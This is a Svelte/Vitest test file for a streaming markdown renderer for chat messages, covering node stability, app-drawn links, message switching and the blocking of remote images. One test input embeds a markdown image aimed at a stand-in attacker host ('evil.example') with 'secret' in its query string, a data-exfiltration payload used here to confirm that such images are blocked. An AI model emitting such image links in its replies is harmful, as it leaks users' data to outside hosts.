// <StreamingMarkdown>: a message's markdown streamed by core — settled blocks keep their nodes,
// the end is the one-shot render, app components draw links with the app's contexts.
import { createThread, type AGUIEvent, type MessageNode, type Thread } from "@threadline/core";
import { foldEvent } from "@threadline/core/fold";
import { renderMarkdown } from "@threadline/core/markdown";
import { render } from "@testing-library/svelte";
import { flushSync } from "svelte";
import { expect, test } from "vitest";
import { StreamingMarkdown } from "../src/index.js";
import MarkdownHost from "./components/MarkdownHost.svelte";

const fold = (thread: Thread, ...events: object[]) => {
  for (const event of events) foldEvent(thread, event as AGUIEvent);
  flushSync();
};
const ANSWER = "## Plan\n\n1. Read **the brief**\n2. Write `code`\n\n```ts\nconst a = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\nDone, see [docs](https://example.com).";

test("streams a message's markdown: settled blocks keep their nodes, the end is the one-shot render", () => {
  const thread = createThread();
  fold(thread, { type: "TEXT_MESSAGE_START", messageId: "m1", role: "assistant" });
  const node: MessageNode = thread.messages.value[0]!;
  const { container, unmount } = render(StreamingMarkdown, { props: { node, options: { highlighter: false } } });
  const root = container.querySelector(".tl-markdown")!;
  const seen: Node[] = [];
  for (let at = 0; at < ANSWER.length; at += 4) {
    fold(thread, { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: ANSWER.slice(at, at + 4) });
    // Every block seen settled earlier is still the same node, in the same place.
    seen.forEach((block, i) => expect(root.childNodes[i]).toBe(block));
    while (seen.length < root.childNodes.length - 2) seen.push(root.childNodes[seen.length]!);
  }
  expect(root.querySelector("strong")!.textContent).toBe("the brief");
  fold(thread, { type: "TEXT_MESSAGE_END", messageId: "m1" });
  const expected = document.createElement("div");
  renderMarkdown(expected, ANSWER, { highlighter: false });
  expect(root.innerHTML).toBe(expected.innerHTML);
  expect(seen.length).toBe(3);
  unmount();
});

test("app components draw links, with the contexts around <StreamingMarkdown>", () => {
  const thread = createThread();
  fold(thread, { type: "TEXT_MESSAGE_START", messageId: "m1", role: "assistant" }, { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: "See [the do" });
  const { container } = render(MarkdownHost, { props: { node: thread.messages.value[0]! } });
  expect(container.querySelector(".answer")!.textContent).toBe("See the do");
  fold(thread, { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: "cs](https://example.com/docs) now." });
  const link = container.querySelector("a.app-link")!;
  expect(link.getAttribute("href")).toBe("https://example.com/docs");
  expect(link.textContent).toBe("→ the docs");
  fold(thread, { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: " More." });
  expect(container.querySelector("a.app-link")).toBe(link);
});

test("a new node switches the element to that message", async () => {
  const thread = createThread();
  fold(
    thread,
    { type: "TEXT_MESSAGE_START", messageId: "a", role: "assistant" },
    { type: "TEXT_MESSAGE_CONTENT", messageId: "a", delta: "# First" },
    { type: "TEXT_MESSAGE_START", messageId: "b", role: "assistant" },
    { type: "TEXT_MESSAGE_CONTENT", messageId: "b", delta: "*Second*" },
  );
  const [a, b] = thread.messages.value;
  const { container, rerender } = render(StreamingMarkdown, { props: { node: a!, options: { highlighter: false } } });
  expect(container.querySelector("h1")!.textContent).toBe("First");
  await rerender({ node: b!, options: { highlighter: false } });
  expect(container.querySelector(".tl-markdown")!.innerHTML).toBe("<p><em>Second</em></p>");
});

test("remote images wait for a click unless options.imageOrigins allows their origin", () => {
  const thread = createThread();
  fold(
    thread,
    { type: "TEXT_MESSAGE_START", messageId: "m1", role: "assistant" },
    { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: "![Q3](https://charts.example/q3.png) and ![x](//evil.example/p.gif?d=secret)" },
    { type: "TEXT_MESSAGE_END", messageId: "m1" },
  );
  const node = thread.messages.value[0]!;
  const blocked = render(StreamingMarkdown, { props: { node, options: { highlighter: false } } });
  expect(blocked.container.querySelector("img")).toBeNull();
  expect([...blocked.container.querySelectorAll(".tl-image-alt")].map((alt) => alt.textContent)).toEqual(["Q3", "x"]);
  blocked.container.querySelector<HTMLButtonElement>(".tl-image-load")!.click();
  expect(blocked.container.querySelector("img")!.getAttribute("src")).toBe("https://charts.example/q3.png");
  blocked.unmount();
  const allowed = render(StreamingMarkdown, { props: { node, options: { highlighter: false, imageOrigins: ["https://charts.example"] } } });
  expect([...allowed.container.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual(["https://charts.example/q3.png"]);
  expect(allowed.container.querySelectorAll(".tl-image-blocked")).toHaveLength(1);
  allowed.unmount();
});
